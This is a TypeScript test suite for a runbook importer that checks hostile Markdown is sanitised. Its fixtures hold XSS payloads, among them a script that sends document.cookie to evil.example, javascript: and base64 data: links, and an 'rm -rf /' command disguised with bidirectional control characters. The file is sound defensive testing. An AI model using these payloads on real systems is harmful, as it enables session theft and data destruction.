import { describe, expect, it } from 'vitest';
import { stepsOf } from '../library/well-formed.ts';
import type { Playbook } from '../playbook.ts';
import { importRunbook } from './import-runbook.ts';
import { MAX_IMPORT_BYTES } from './limits.ts';
import { imported } from './test-support.ts';

// Runbooks are pasted from wikis, tickets and e-mails. Whatever they contain comes out as plain
// data — no markup, no executable link — or is refused with a reason; the importer never throws.
// (Bounded time is the worker's deadline: run-import.test.ts; the figures: npm run bench:import.)

const everyText = (playbook: Playbook) =>
  [
    playbook.title,
    playbook.summary,
    ...playbook.phases.map((p) => p.title),
    ...stepsOf(playbook).flatMap((s) => [s.text, ...(s.branches ?? []).map((b) => b.when)]),
  ].join('\n');

const runbook = (body: string) => `# Venue runbook\n\n## First response (0-5 minutes)\n\n${body}\n`;

describe('hostile runbooks', () => {
  it('drops script tags and event-handler attributes from the text, and says so', () => {
    const { drafts, warnings } = imported(
      runbook(
        [
          '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
          '',
          '1. **Restart the gateway** <img src=x onerror="alert(1)">',
          '2. Page the desk <b onmouseover=alert(2)>now</b>',
        ].join('\n'),
      ),
    );
    const text = everyText(drafts[0]!.playbook);
    expect(text).not.toMatch(/<script|onerror|onmouseover|<img|<b\b|document\.cookie/i);
    expect(stepsOf(drafts[0]!.playbook).map((s) => s.text)).toEqual([
      'Restart the gateway',
      'Page the desk now',
    ]);
    expect(warnings.join(' ')).toMatch(/raw HTML ignored/);
  });

  it('keeps markup inside a code block as the literal command it is', () => {
    const { drafts } = imported(
      runbook('```bash\n# 1. Show the page\ncurl -s http://127.0.0.1/ | grep "<script>"\n```'),
    );
    expect(stepsOf(drafts[0]!.playbook)[0]!.command).toBe('curl -s http://127.0.0.1/ | grep "<script>"');
  });

  it('keeps no javascript: or data: link, in any spelling', () => {
    const { drafts, warnings } = imported(
      runbook(
        [
          '1. Open the [status page](javascript:alert(document.domain))',
          '2. Read the [notice](JaVaScRiPt:alert(1)) first',
          '3. Check the [chart](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
          '4. Also see <javascript:alert(3)>',
          '5. Then the [venue status](https://status.example.com/venue)',
        ].join('\n'),
      ),
    );
    const steps = stepsOf(drafts[0]!.playbook).map((s) => s.text);
    expect(steps.join('\n')).not.toMatch(/javascript:|data:/i);
    expect(steps).toEqual([
      'Open the status page',
      'Read the notice first',
      'Check the chart',
      'Also see',
      'Then the venue status (https://status.example.com/venue)',
    ]);
    expect(warnings.join(' ')).toMatch(/4 links to something other than a web page/);
  });

  it('shortens a 3,000-character step and refuses a 3,000-character command, saying so', () => {
    const long = 'check the venue '.repeat(188); // ~3,000 characters on one line
    const { drafts, warnings } = imported(
      runbook(`1. ${long}\n\n\`\`\`bash\n# 2. Replay\n./replay ${'x'.repeat(3000)}\n\`\`\``),
    );
    const [shortened, replay] = stepsOf(drafts[0]!.playbook);
    expect(shortened!.text.length).toBeLessThanOrEqual(500);
    expect(shortened!.text.endsWith('…')).toBe(true);
    expect(replay!.command).toBeUndefined();
    expect(replay!.text).toMatch(/its command, 3,009 characters long, was not imported/);
    expect(warnings).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/1 step longer than 500/),
        expect.stringMatching(/1 command longer than 2,000/),
      ]),
    );
  });

  it('removes right-to-left overrides and zero-width characters that disguise a command', () => {
    // Displayed, this reads "rm -rf /tmp/cache.log"-ish; the bytes say otherwise.
    const { drafts, warnings } = imported(
      runbook('```bash\n# 1. Clear the cache\nrm -rf /\u202egol.ehcac/pmt\u202c\u200b\n```'),
    );
    const [step] = stepsOf(drafts[0]!.playbook);
    expect(step!.command).toBe('rm -rf /gol.ehcac/pmt');
    expect(step!.command).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b]/);
    expect(warnings.join(' ')).toMatch(/3 invisible or control characters .* removed/);
  });

  it('removes invisible characters written as entities and C1 controls, which only the parser decodes', () => {
    const { drafts, warnings } = imported(
      runbook('1. Restart the &#x202E;yawetag&#x202C; now\n\n```bash\n# 2. Show\nprintf "ok"\u009b31m\n```'),
    );
    const [restart, show] = stepsOf(drafts[0]!.playbook);
    expect(restart!.text).toBe('Restart the yawetag now');
    expect(show!.command).toBe('printf "ok"31m');
    expect(warnings.join(' ')).toMatch(/3 invisible or control characters/);
  });

  it('does not call a closed fence inside a quote unclosed', () => {
    const { warnings } = imported(
      runbook('> ```bash\n> # 1. Restart\n> systemctl restart gw\n> ```\n\n- Tell the desk'),
    );
    expect(warnings.filter((w) => w.includes('never closed'))).toEqual([]);
  });

  it('reads an unclosed code fence to the end and warns which one', () => {
    const { drafts, warnings } = imported(
      '# Runbook\n\n## First response (0-5 minutes)\n\n- Page the desk\n\n```bash\n# 1. Restart\nsystemctl restart gw\n\n## Recovery (5-10 minutes)\n\n- Verify fills\n',
    );
    expect(drafts[0]!.playbook.phases.map((p) => p.title)).toEqual(['First response']);
    expect(warnings).toContain(
      'The code block opened on line 7 is never closed: the rest of its section was read as one command. Check that step.',
    );
  });

  it('refuses a runbook over 1 MB before reading it', () => {
    const result = importRunbook(`# Huge\n\n${'- step\n'.repeat(MAX_IMPORT_BYTES / 7 + 10)}`, 'huge.md');
    expect(result).toEqual({
      ok: false,
      error: expect.stringMatching(/^huge\.md is 1\.0 MB; runbooks over 1\.0 MB are refused/),
    });
  });

  it('reads thousands of nested quotes without overflowing the stack, in linear time', () => {
    // markdown-it stops nesting at 100 levels and reads the rest as text.
    const started = performance.now();
    const result = importRunbook(`${'> '.repeat(20_000)}deep`, 'deep.md');
    expect(result).toEqual({ ok: false, error: expect.stringContaining('No steps found in deep.md') });
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it.each([
    ['unclosed link destinations', '[a](b '.repeat(150_000)],
    ['unclosed brackets in steps', '- step (a '.repeat(90_000)],
    ['thousands of if-clauses', '- If a, b; if c, d. '.repeat(45_000)],
    ['90,000 headings', '# h\n## 1. a (0-5 min)\n### 1.1 b\n'.repeat(30_000)],
  ])('reads %s (close to 1 MB) in seconds, not in quadratic time (minutes)', (_what, text) => {
    const started = performance.now();
    importRunbook(text.slice(0, 1_000_000), 'crafted.md');
    // `npm run bench:import` holds these to 2 s; here the bound leaves room for a loaded machine.
    expect(performance.now() - started).toBeLessThan(5000);
  });

  it('refuses an empty file and one with only HTML', () => {
    expect(importRunbook(' \n\t\n', 'blank.md')).toEqual({
      ok: false,
      error: 'blank.md is empty: there is nothing to import.',
    });
    expect(importRunbook('<div onclick="x()"><script>y()</script></div>', 'page.html')).toMatchObject({
      ok: false,
    });
  });
});
